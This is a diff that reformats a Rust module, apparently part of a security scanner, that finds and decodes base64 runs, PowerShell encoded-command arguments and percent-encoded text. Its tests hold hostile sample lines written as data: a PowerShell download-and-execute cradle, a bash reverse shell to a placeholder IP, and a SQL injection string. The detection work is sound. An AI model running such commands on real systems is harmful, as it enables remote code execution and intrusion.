@@ -39,7 +39,8 @@ const BASE64_BYTE: [bool; 256] = {
     let mut byte = 0;
     while byte < 256 {
         let character = byte as u8;
-        table[byte] = character.is_ascii_alphanumeric() || matches!(character, b'+' | b'/' | b'=' | b'-' | b'_');
+        table[byte] = character.is_ascii_alphanumeric()
+            || matches!(character, b'+' | b'/' | b'=' | b'-' | b'_');
         byte += 1;
     }
     table
@@ -66,7 +67,12 @@ pub(crate) fn base64_runs(text: &[u8], min_len: usize) -> Vec<std::ops::Range<us
             None => {
                 // `start` begins a run (the byte before it, if any, is not base64): extend it.
                 let rest = text.get(start + min_len..).unwrap_or_default();
-                let end = start + min_len + rest.iter().position(|&byte| !is_base64_byte(byte)).unwrap_or(rest.len());
+                let end = start
+                    + min_len
+                    + rest
+                        .iter()
+                        .position(|&byte| !is_base64_byte(byte))
+                        .unwrap_or(rest.len());
                 runs.push(start..end);
                 start = end + 1;
             }
@@ -88,14 +94,18 @@ pub(crate) fn contains(haystack: &[u8], needle: &[u8]) -> bool {
     }
     let (anchor_offset, anchor) = rare_byte(needle);
     let last_start = haystack.len() - needle.len();
-    let window = haystack.get(anchor_offset..=last_start + anchor_offset).unwrap_or_default();
+    let window = haystack
+        .get(anchor_offset..=last_start + anchor_offset)
+        .unwrap_or_default();
     for (tries, position) in memchr::memchr_iter(anchor, window).enumerate() {
         if tries == 8 {
             let finder = memchr::arch::all::rabinkarp::Finder::new(needle);
             return finder.find(haystack, needle).is_some();
         }
         // The last byte first: it rejects most candidates without a `memcmp` call.
-        if haystack.get(position + needle.len() - 1) == needle.last() && haystack.get(position..position + needle.len()) == Some(needle) {
+        if haystack.get(position + needle.len() - 1) == needle.last()
+            && haystack.get(position..position + needle.len()) == Some(needle)
+        {
             return true;
         }
     }
@@ -143,8 +153,10 @@ fn rare_byte(needle: &[u8]) -> (usize, u8) {
 const LENIENT: base64::engine::GeneralPurposeConfig = base64::engine::GeneralPurposeConfig::new()
     .with_decode_allow_trailing_bits(true)
     .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
-const STANDARD: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
-const URL_SAFE: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);
+const STANDARD: base64::engine::GeneralPurpose =
+    base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
+const URL_SAFE: base64::engine::GeneralPurpose =
+    base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);
 
 /// Decodes a base64 run (standard or URL-safe, padded or not). A trailing character that
 /// does not make a whole byte is dropped, so a run glued to a following word still decodes.
@@ -189,12 +201,10 @@ pub(crate) fn looks_like_utf16le(bytes: &[u8]) -> bool {
 
 /// UTF-16LE bytes as UTF-8 text; invalid code units become U+FFFD.
 pub(crate) fn utf16le_to_utf8(bytes: &[u8]) -> Vec<u8> {
-    let units = bytes
-        .chunks_exact(2)
-        .map(|pair| match pair {
-            [low, high] => u16::from_le_bytes([*low, *high]),
-            _ => 0,
-        });
+    let units = bytes.chunks_exact(2).map(|pair| match pair {
+        [low, high] => u16::from_le_bytes([*low, *high]),
+        _ => 0,
+    });
     char::decode_utf16(units)
         .map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER))
         .collect::<String>()
@@ -221,11 +231,18 @@ pub(crate) fn worth_scanning(bytes: &[u8]) -> bool {
 pub(crate) fn powershell_encoded_arguments(command_line: &[u8]) -> Vec<std::ops::Range<usize>> {
     let mut found = Vec::new();
     let mut position = 0;
-    while let Some(relative) = memchr::memchr2(b'-', b'/', command_line.get(position..).unwrap_or_default()) {
+    while let Some(relative) =
+        memchr::memchr2(b'-', b'/', command_line.get(position..).unwrap_or_default())
+    {
         let flag_start = position + relative;
         position = flag_start + 1;
         // A flag starts a word.
-        if flag_start > 0 && !matches!(command_line.get(flag_start - 1), Some(b' ' | b'\t' | b'"' | b'\'')) {
+        if flag_start > 0
+            && !matches!(
+                command_line.get(flag_start - 1),
+                Some(b' ' | b'\t' | b'"' | b'\'')
+            )
+        {
             continue;
         }
         let name_end = command_line
@@ -259,7 +276,10 @@ pub(crate) fn powershell_encoded_arguments(command_line: &[u8]) -> Vec<std::ops:
 
 fn is_encoded_command_flag(name: &[u8]) -> bool {
     const FULL: &[u8] = b"encodedcommand";
-    let abbreviation = name.len() <= FULL.len() && FULL.get(..name.len()).is_some_and(|prefix| prefix.eq_ignore_ascii_case(name));
+    let abbreviation = name.len() <= FULL.len()
+        && FULL
+            .get(..name.len())
+            .is_some_and(|prefix| prefix.eq_ignore_ascii_case(name));
     !name.is_empty() && (name.eq_ignore_ascii_case(b"ec") || abbreviation)
 }
 
@@ -285,7 +305,10 @@ pub(crate) fn percent_decode(text: &[u8]) -> Option<Vec<u8>> {
     let mut index = 0;
     while let Some(&byte) = text.get(index) {
         match byte {
-            b'%' => match (text.get(index + 1).and_then(hex_value), text.get(index + 2).and_then(hex_value)) {
+            b'%' => match (
+                text.get(index + 1).and_then(hex_value),
+                text.get(index + 2).and_then(hex_value),
+            ) {
                 (Some(high), Some(low)) => {
                     decoded.push(high << 4 | low);
                     index += 3;
@@ -333,17 +356,32 @@ mod tests {
     #[test]
     fn finds_every_spelling_of_the_encoded_command_flag() {
         let payload = utf16_base64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
-        for flag in ["-e", "-en", "-enc", "-EncodedCommand", "-ENCODEDCOMMAND", "-ec", "/enc", "-encod"] {
+        for flag in [
+            "-e",
+            "-en",
+            "-enc",
+            "-EncodedCommand",
+            "-ENCODEDCOMMAND",
+            "-ec",
+            "/enc",
+            "-encod",
+        ] {
             let line = format!("powershell.exe -nop -w hidden {flag} {payload}");
             let ranges = powershell_encoded_arguments(line.as_bytes());
             assert_eq!(ranges.len(), 1, "{flag}");
-            let argument = ranges.first().and_then(|range| line.get(range.clone())).unwrap_or_default();
+            let argument = ranges
+                .first()
+                .and_then(|range| line.get(range.clone()))
+                .unwrap_or_default();
             assert_eq!(argument, payload, "{flag}");
         }
         let quoted = format!("powershell -enc \"{payload}\"");
         assert_eq!(powershell_encoded_arguments(quoted.as_bytes()).len(), 1);
         // -ExecutionPolicy is not an abbreviation of -EncodedCommand.
-        assert!(powershell_encoded_arguments(b"powershell -ExecutionPolicy Bypass -File x.ps1").is_empty());
+        assert!(
+            powershell_encoded_arguments(b"powershell -ExecutionPolicy Bypass -File x.ps1")
+                .is_empty()
+        );
         assert!(powershell_encoded_arguments(b"cmd.exe /c echo -e").is_empty());
     }
 
@@ -357,23 +395,36 @@ mod tests {
 
     #[test]
     fn encoded_command_decodes_to_utf8_text() {
-        let payload = utf16_base64("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
+        let payload = utf16_base64(
+            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
+        );
         let (text, decoding) = decoded(payload.as_bytes());
         assert_eq!(decoding, Some(Decoding::Base64Utf16));
-        assert_eq!(String::from_utf8_lossy(&text), "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
+        assert_eq!(
+            String::from_utf8_lossy(&text),
+            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
+        );
         // Cut anywhere (the scan limit), it still decodes the part that is there.
         let cut = payload.get(..41).unwrap_or_default();
         let (text, _) = decoded(cut.as_bytes());
-        assert!(String::from_utf8_lossy(&text).starts_with("IEX (New-Obj"), "{}", String::from_utf8_lossy(&text));
+        assert!(
+            String::from_utf8_lossy(&text).starts_with("IEX (New-Obj"),
+            "{}",
+            String::from_utf8_lossy(&text)
+        );
     }
 
     #[test]
     fn plain_base64_runs_are_found_and_decoded() {
-        let encoded = base64::engine::general_purpose::STANDARD.encode("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
+        let encoded = base64::engine::general_purpose::STANDARD
+            .encode("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
         let line = format!("echo {encoded} | base64 -d | bash");
         let runs = base64_runs(line.as_bytes(), MIN_BASE64_RUN);
         assert_eq!(runs.len(), 1);
-        let run = runs.first().and_then(|range| line.as_bytes().get(range.clone())).unwrap_or_default();
+        let run = runs
+            .first()
+            .and_then(|range| line.as_bytes().get(range.clone()))
+            .unwrap_or_default();
         let (bytes, decoding) = decoded(run);
         assert_eq!(decoding, Some(Decoding::Base64));
         assert_eq!(bytes, b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
@@ -393,10 +444,24 @@ mod tests {
             (format!("{}.{}", "B".repeat(39), "C".repeat(39)), Vec::new()),
             (format!("-_=+/{long}"), run(0..50)),
         ] {
-            assert_eq!(base64_runs(text.as_bytes(), MIN_BASE64_RUN), expected, "{text}");
+            assert_eq!(
+                base64_runs(text.as_bytes(), MIN_BASE64_RUN),
+                expected,
+                "{text}"
+            );
         }
         // The skipping scan finds exactly what a plain scan finds.
-        let mixed: Vec<u8> = (0..5000u32).map(|index| if index % 97 < 50 { b'Q' } else if index % 7 == 0 { b' ' } else { b'z' }).collect();
+        let mixed: Vec<u8> = (0..5000u32)
+            .map(|index| {
+                if index % 97 < 50 {
+                    b'Q'
+                } else if index % 7 == 0 {
+                    b' '
+                } else {
+                    b'z'
+                }
+            })
+            .collect();
         let plain: Vec<std::ops::Range<usize>> = {
             let mut runs = Vec::new();
             let mut begin = None;
@@ -420,22 +485,50 @@ mod tests {
     #[test]
     fn contains_finds_needles_like_memmem() {
         let haystack = b"aaaaaaaaaaaaaaaaaaaaab needle in a haystack aab";
-        for needle in [&b"needle"[..], b"aab", b"aaab", b"haystack aab", b"", b"absent", b"aaaaaaaaaaaaaaaaaaaaab"] {
-            assert_eq!(contains(haystack, needle), memchr::memmem::find(haystack, needle).is_some(), "{}", String::from_utf8_lossy(needle));
+        for needle in [
+            &b"needle"[..],
+            b"aab",
+            b"aaab",
+            b"haystack aab",
+            b"",
+            b"absent",
+            b"aaaaaaaaaaaaaaaaaaaaab",
+        ] {
+            assert_eq!(
+                contains(haystack, needle),
+                memchr::memmem::find(haystack, needle).is_some(),
+                "{}",
+                String::from_utf8_lossy(needle)
+            );
         }
         assert!(!contains(b"ab", b"abc"));
     }
 
     #[test]
     fn percent_decoding_handles_plus_and_bad_escapes() {
-        assert_eq!(percent_decode(b"/a?id=1%27%20UNION+SELECT%2").as_deref(), Some(&b"/a?id=1' UNION SELECT%2"[..]));
+        assert_eq!(
+            percent_decode(b"/a?id=1%27%20UNION+SELECT%2").as_deref(),
+            Some(&b"/a?id=1' UNION SELECT%2"[..])
+        );
         assert_eq!(percent_decode(b"/plain/path"), None);
         assert_eq!(percent_decode(b"%zz"), None);
     }
 
     #[test]
     fn decoders_never_panic_on_odd_input() {
-        for input in [&b""[..], b"-", b"-e", b"-e ", b"-e \"", b"%", b"%4", b"====", b"\xff\xfe-enc \xff", b"A===", b"-ec\t"] {
+        for input in [
+            &b""[..],
+            b"-",
+            b"-e",
+            b"-e ",
+            b"-e \"",
+            b"%",
+            b"%4",
+            b"====",
+            b"\xff\xfe-enc \xff",
+            b"A===",
+            b"-ec\t",
+        ] {
             let _ = powershell_encoded_arguments(input);
             let _ = percent_decode(input);
             let _ = base64_runs(input, 1);
